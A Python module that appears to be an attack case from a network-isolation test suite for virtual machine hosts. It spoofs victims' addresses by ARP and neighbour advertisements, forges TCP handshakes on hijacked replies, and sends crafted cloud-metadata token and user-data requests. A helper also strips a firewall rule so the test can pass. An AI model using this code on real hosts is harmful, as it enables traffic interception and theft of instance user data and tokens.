"""A neighbour has the host send it what victims are answered.

It claims the victims' addresses to the host, by ARP and neighbour advertisements, a hundred times a second. Where a SYN-ACK of a victim's
reaches it, it finishes the handshake in its own hardware address by its own port, makes itself a token and asks. Gained: the victim's
user data and tokens, whether or not tokens are required. In the way: replies leave by the tap that their connection came by, in the
hardware address of that guest, whatever the host's neighbour table has; and what comes by another port is another connection.
"""

import re

import attack
import rules
import wire
from attack import Outcome
from attacks.lib import claims
from field import Field
from host import Host

TOKEN = b"PUT /latest/api/token HTTP/1.1\r\nX-aws-ec2-metadata-token-ttl-seconds: 21600\r\n\r\n"
ASK = b"GET /latest/user-data HTTP/1.1\r\nHost: 169.254.169.254\r\n\r\n"


class Attack(attack.Attack):
    """The attacker claims the victims' addresses."""

    proofs = (("address", 4), ("address", 6), ("redirect", 4))

    def attack(self, field: Field) -> None:
        """Claims, and goes on with every connection that it hears of."""
        card = wire.Wire()
        claim = claims.of_victims(field)
        card.send(*claim)
        field.ready()
        victims, seen, bodies = {field.own(one) for one in field.victims}, 0, set()
        while field.goes_on():
            card.send(*claim)
            for segment in card.segments(0.01):
                # Also from a source that is the host's own: where a redirection would not be undone.
                if segment.destination not in victims or segment.by != field.bridge:
                    continue
                seen += 1
                bodies |= {found.decode() for found in re.findall(rb"USER-DATA-OF-[\w-]+", segment.data)}
                flags, data = (wire.ACK | wire.PSH, TOKEN + ASK) if segment.flags & wire.SYN else (wire.ACK, b"")
                card.send(wire.packet(field.bridge, field.me.link, (segment.destination, segment.source), wire.tcp(
                    segment.destination, segment.source, segment.ports[::-1], flags, segment.acknowledged,
                    segment.sequence + len(segment.data) + (1 if segment.flags & wire.SYN else 0), data)))
        field.report |= {"seen": seen, "bodies": sorted(bodies)}

    def gained(self, outcome: Outcome) -> str | None:
        """Any reply that was a victim's."""
        for name, report in outcome.reports.items():
            if report.get("seen"):
                return f"{name} saw {report['seen']} replies to victims, and read {report['bodies'] or 'no user data'}"
        return None

    def weaken(self, host: Host) -> None:
        """Lets replies go where the neighbour table has their guest."""
        rules.remove(r".", "netdev", f"from_host_{rules.index('br0')}")
